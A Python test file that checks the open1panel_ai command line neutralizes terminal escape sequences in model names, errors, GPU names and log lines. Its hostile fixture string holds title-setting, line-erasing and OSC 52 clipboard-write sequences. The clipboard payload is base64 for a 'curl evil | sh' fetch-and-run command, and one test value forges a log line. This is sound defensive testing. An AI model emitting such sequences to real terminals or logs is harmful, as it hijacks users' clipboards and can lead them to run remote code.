"""Finding 8: what the command line prints from elsewhere cannot act on the terminal.

A model's details, Ollama's error text and a GPU's name come from servers and drivers the panel
does not control. Printed raw, an escape sequence among them sets the window title, erases the
line it is on, or writes the clipboard (OSC 52). The commands show such characters as escapes.
"""

from __future__ import annotations

import logging
import sys
import threading

import pytest
from werkzeug.serving import make_server

from open1panel_ai import cli
from open1panel_ai.terminal import InertFormatter, inert
from tests.conftest import TOKEN
from tests.gpu.fake_pynvml import FakeGPU, FakeNVML
from tests.ollama_standin import OllamaStandIn

#: A window title, a line erase with a carriage return, and a clipboard write (OSC 52), in
#: 7-bit and 8-bit (C1 CSI) forms, a DEL and a right-to-left override.
HOSTILE = "Q4\x1b]0;owned\x07\x1b[2K\r\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b31m\x7f\u202eevil"
#: Bytes that start or end a terminal control sequence.
ACTIVE = ("\x1b", "\x07", "\x9b", "\x9d", "\r", "\x7f", "\u202e")


def assert_inert(text: str) -> None:
    assert not [c for c in ACTIVE if c in text], repr(text)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
        ("a\x1b[2K\rb", "a\\x1b[2K\\x0db"),
        ("\x9b2J\x7f", "\\x9b2J\\x7f"),
        ("one\ntwo\tthree", "one\\x0atwo\\x09three"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
        ("llama3.2:latest — 模型 👍", "llama3.2:latest — 模型 👍"),
    ],
)
def test_control_characters_are_shown_as_escapes(raw, shown):
    assert inert(raw) == shown


def test_multi_line_text_keeps_its_lines_and_tabs_only():
    assert inert("error:\n\tline 2\x1b[1A\r", lines=True) == "error:\n\tline 2\\x1b[1A\\x0d"


@pytest.fixture
def panel_url(make_host, panel_env, tmp_path):
    """A panel in this process, on a loopback port, whose Ollama is a stand-in that hands out
    hostile text."""
    with OllamaStandIn(tmp_path / "models") as standin:
        standin.seed("llama3.2", [4096], family=HOSTILE, quantization_level=HOSTILE)
        standin.publish("broken", f"pull failed: {HOSTILE}")
        panel_env.setenv("OLLAMA_HOST", standin.url)
        server = make_server("127.0.0.1", 0, make_host().app, threaded=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            server.server_close()


def models(url: str, *args: str) -> int:
    return cli.main(["models", "--url", url, "--token", TOKEN, *args])


def test_models_list_show_and_pull_print_no_control_sequences(panel_url, capsys):
    assert models(panel_url, "list") == 0
    listed = capsys.readouterr().out
    assert_inert(listed)
    assert "llama3.2:latest" in listed and "Q4\\x1b]0;owned\\x07" in listed  # shown, not dropped
    assert "\\x1b]52;c;" in listed

    assert models(panel_url, "show", "llama3.2") == 0
    shown = capsys.readouterr().out
    assert_inert(shown)
    assert '"family"' in shown

    assert models(panel_url, "pull", "broken") == 1
    printed = capsys.readouterr()
    assert "pull failed" in printed.err, printed.err
    assert_inert(printed.out + printed.err)


def test_gpu_doctor_prints_a_hostile_device_name_inert(monkeypatch, capsys):
    monkeypatch.setitem(sys.modules, "pynvml", FakeNVML([FakeGPU(name=HOSTILE)]).module())
    cli.main(["gpu", "doctor"])
    out = capsys.readouterr().out
    assert "ok  devices" in out and "Q4\\x1b]0;owned" in out
    assert_inert(out)


def test_log_lines_of_the_command_line_are_inert():
    formatter = InertFormatter("%(levelname)s %(name)s: %(message)s")
    record = logging.LogRecord(
        "open1panel_ai.mcp", logging.WARNING, __file__, 1, "MCP server %s exited", (HOSTILE,), None
    )
    line = formatter.format(record)
    assert line.startswith("WARNING open1panel_ai.mcp: MCP server Q4\\x1b]0;owned")
    assert_inert(line)
    # A name with a line break stays on its log line; a traceback keeps its lines.
    try:
        raise RuntimeError("boom")
    except RuntimeError:
        record = logging.LogRecord(
            "open1panel_ai.mcp",
            logging.ERROR,
            __file__,
            1,
            "MCP server %s failed",
            ("x\nINFO open1panel_ai: all good",),
            sys.exc_info(),
        )
    lines = formatter.format(record).splitlines()
    assert lines[0] == "ERROR open1panel_ai.mcp: MCP server x\\x0aINFO open1panel_ai: all good failed"
    assert lines[1] == "Traceback (most recent call last):" and lines[-1] == "RuntimeError: boom"
